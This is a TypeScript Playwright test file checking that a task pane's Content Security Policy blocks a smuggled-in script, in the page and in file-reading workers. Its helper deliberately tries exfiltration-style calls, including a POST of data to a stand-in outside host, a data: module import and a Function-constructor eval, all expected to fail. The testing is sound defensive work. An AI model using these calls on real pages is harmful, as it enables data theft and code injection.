import { strict as assert } from "node:assert";
import { importStrings } from "../../src/taskpane/strings/import";
import { zhCN } from "../../src/taskpane/strings/zh-CN";
import { reportDocument } from "../../src/write/report-document";
import { reportFile } from "../../src/write/report-file";
import { numberedReport } from "../write/reports";
import type { FrameLocator, Page } from "playwright-core";
import { browserCase, type BrowserCase, type CaseOptions } from "./cases";
import { drop } from "./drop-file";
import { openFromDisk } from "./open-from-disk";
import { WorkbenchPage } from "./workbench-page";
import { ready } from "../write/standings";

const elsewhere = "https://example.invalid/";

/**
 * Tries every way in which a script that got in could send what it knows, or load more of itself. Runs within the
 * pane's page or its worker.
 * @param own where the pane's files are, ending in a slash
 * @param other a place that is not the pane's
 * @returns what the policy there stopped: addresses, "data" and "eval"
 */
async function stoppedHere({ own, other }: { own: string; other: string }): Promise<string[]> {
  const stopped: string[] = [];
  addEventListener("securitypolicyviolation", ({ blockedURI }) => stopped.push(blockedURI));
  const attempts: (() => unknown)[] = [
    () => fetch(`${own}fetch`),
    () => fetch(`${other}fetch`, { method: "POST", mode: "no-cors", body: "382" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${own}request`);
      request.send();
    },
    () => new WebSocket(`${own.replace("http", "ws")}socket`),
    () => new EventSource(`${own}events`),
    () => import(`data:text/javascript,${Date.now()}`),
    () => new Worker(`${own}worker`),
    () =>
      Reflect.construct(Reflect.get(globalThis, "Function") as () => void, ["return 1"]) as unknown,
  ];
  for (const attempt of attempts) {
    await new Promise((tried) => {
      // Later, because what a debugger runs at once may make code of text.
      setTimeout(() => {
        void (async () => attempt())()
          .catch(() => undefined)
          .finally(() => setTimeout(tried));
      });
    });
  }
  await new Promise((reported) => setTimeout(reported, 100));
  return stopped;
}

/** What {@link stoppedHere} has to answer where the policy holds. */
function everyAttempt(own: string): readonly string[] {
  return [
    `${own}fetch`,
    `${elsewhere}fetch`,
    `${own}request`,
    `${own.replace("http", "ws")}socket`,
    `${own}events`,
    "data",
    `${own}worker`,
    "eval",
  ];
}

const told: CaseOptions = { expectedErrors: /Content Security Policy|Refused to/ };

browserCase(
  "a script that got into the pane can send nothing and load nothing",
  async (browser) => {
    await WorkbenchPage.open(browser);
    const pane = browser.page.frame({ url: /taskpane\.html/ });
    assert.ok(pane);
    const stopped = await pane.evaluate(stoppedHere, { own: browser.site, other: elsewhere });
    assert.deepEqual(stopped, everyAttempt(browser.site));
  },
  told
);

/** Has a file read in a pane where one can be chosen, and tries every way from what reads it. */
async function stoppedInReader(
  { page, site }: BrowserCase,
  pane: FrameLocator | Page
): Promise<readonly string[]> {
  const started = page.waitForEvent("worker");
  await drop(pane, await reportFile(reportDocument(numberedReport("2021"), ready), "docx"));
  const worker = await started;
  await pane
    .getByRole("button", { name: importStrings["zh-CN"].choose })
    .waitFor({ state: "detached" });
  return worker.evaluate(stoppedHere, { own: site, other: elsewhere });
}

async function keepWorkers(page: Page): Promise<void> {
  await page.addInitScript(() => {
    // So that they can still be asked when they have read.
    Worker.prototype.terminate = () => undefined;
  });
}

browserCase(
  "what reads a file beside the pane is held by the pane's policy",
  async (browser) => {
    await keepWorkers(browser.page);
    const { pane } = await WorkbenchPage.open(browser);
    await pane.getByRole("button", { name: zhCN.importing.previous }).click();
    await pane.getByRole("button", { name: importStrings["zh-CN"].choose }).waitFor();
    assert.deepEqual(await stoppedInReader(browser, pane), everyAttempt(browser.site));
  },
  told
);

browserCase(
  "what reads a file beside a pane on disk is held by the pane's policy",
  async (browser) => {
    await keepWorkers(browser.page);
    await openFromDisk(browser);
    // A worker of another origin, as everything is to a page on disk, is refused before the policy is asked.
    const expected = everyAttempt(browser.site).filter((each) => !each.endsWith("/worker"));
    assert.deepEqual(await stoppedInReader(browser, browser.page), expected);
  },
  told
);
